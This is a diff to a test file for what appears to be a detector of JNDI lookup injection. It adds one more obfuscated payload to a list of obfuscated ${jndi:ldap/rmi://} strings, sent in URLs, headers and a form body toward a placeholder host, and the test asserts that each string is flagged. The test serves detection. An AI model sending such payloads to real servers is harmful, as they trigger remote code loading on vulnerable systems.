@@ -12,6 +12,7 @@ test("a look-up is found in an address, a header and a form, encoded once or twi
     get("/?q=%2524%257Bjndi%253Aldap://192.0.2.9/a%257D"),
     get("/", "User-Agent: ${${lower:j}ndi:${lower:l}dap://192.0.2.9/a}"),
     get("/", "X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.9/a}"),
+    get("/", "X-Api-Version: ${${env:NONE:-j}ndi${env:NONE:-:}${env:NONE:-l}dap${env:NONE:-:}//192.0.2.9/a}"),
     post("name=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D&password=x"),
   ])
     assert.deepEqual(injectedBy(request), ["lookupInjected"], request);
